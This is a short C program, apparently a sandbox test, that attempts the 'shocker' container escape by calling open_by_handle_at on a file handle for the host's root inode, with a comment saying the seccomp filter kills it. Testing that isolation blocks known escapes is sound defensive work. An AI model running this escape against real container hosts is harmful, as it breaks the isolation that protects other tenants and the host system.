/* The "shocker" container escape: open_by_handle_at with a brute-forced handle of the
 * host's root inode, bypassing the mount tree. Killed by the seccomp filter. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>

int main(void) {
    setvbuf(stdout, NULL, _IONBF, 0);
    struct {
        struct file_handle fh;
        unsigned char bytes[8];
    } h;
    memset(&h, 0, sizeof h);
    h.fh.handle_bytes = 8;
    h.fh.handle_type = 1;
    *(unsigned int *)h.fh.f_handle = 2; /* inode 2: the root of an ext4 filesystem */
    int fd = open_by_handle_at(open("/usr", O_RDONLY), &h.fh, O_RDONLY);
    printf("ESCAPED: open_by_handle_at returned %d\n", fd);
    return 0;
}
